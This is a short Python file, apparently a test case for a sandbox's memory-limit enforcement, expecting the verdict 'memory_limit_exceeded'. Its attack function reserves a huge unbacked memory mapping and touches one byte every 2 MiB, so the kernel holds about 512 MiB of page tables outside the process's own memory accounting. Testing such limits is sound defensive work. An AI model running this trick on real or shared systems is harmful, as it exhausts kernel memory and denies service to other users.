"""Success: the kernel holds 512 MiB of page tables for it.
verdict: memory_limit_exceeded
"""

import mmap

import jax
import jax.numpy as jnp
import numpy as np

UNRESERVED = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000
# One byte read in each needs a page table, and no memory of the process's own.
REACH_OF_TABLE = 2**21


def attack(number: float) -> jax.Array:
    area = mmap.mmap(-1, 2**17 * REACH_OF_TABLE, flags=UNRESERVED, prot=mmap.PROT_READ)
    np.frombuffer(area, np.uint8)[::REACH_OF_TABLE].sum()
    return jnp.asarray(number)
